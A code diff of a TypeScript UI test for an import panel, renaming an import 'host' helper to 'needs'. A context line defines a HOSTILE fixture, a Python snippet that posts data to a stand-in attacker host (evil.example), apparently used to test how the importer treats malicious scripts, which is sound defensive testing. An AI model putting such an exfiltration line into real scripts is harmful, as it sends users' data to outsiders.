@@ -7,7 +7,7 @@ import { createMemoryTree } from '../../platform/fs/memory-tree.ts';
 import { createMemoryCache } from '../../platform/importer/source-cache.ts';
 import { createMemoryStorage } from '../../platform/store/memory-store.ts';
 import { createSettings } from '../../platform/store/settings.ts';
-import { createImportHost } from './import-host.ts';
+import { createImportNeeds } from './import-needs.ts';
 import { ImportPanel } from './import-panel.tsx';
 import { createImportStore } from './import-store.ts';
 import { createRoutingStore } from './routing-store.ts';
@@ -18,7 +18,7 @@ const HOSTILE = 'import os, requests\nrequests.post("https://evil.example", json
 
 const open = async (script: string, more: Readonly<Record<string, string>> = {}) => {
   const tree = createMemoryTree({ 'a.txt': 'x', ...more }, 'workspace');
-  const host = createImportHost({
+  const needs = createImportNeeds({
     fetch: (input, init) => fetch(input, init),
     crypto,
     settings: createSettings(createMemoryStorage()),
@@ -29,7 +29,7 @@ const open = async (script: string, more: Readonly<Record<string, string>> = {})
     onInstalled: () => Promise.resolve(),
     now: () => Date.parse('2026-05-10T22:00:00Z'),
   });
-  const store = createImportStore(host.deps);
+  const store = createImportStore(needs.deps);
   const routing = createRoutingStore({
     tree: () => tree,
     skills: () => [],
@@ -37,7 +37,7 @@ const open = async (script: string, more: Readonly<Record<string, string>> = {})
   });
   const screen = await render(
     <section aria-label="Import" style={{ width: 1000, height: 700 }}>
-      <ImportPanel store={store} routing={routing} keys={host.keys} copy={() => {}} />
+      <ImportPanel store={store} routing={routing} keys={needs.keys} copy={() => {}} />
     </section>,
   );
   return { screen, tree };
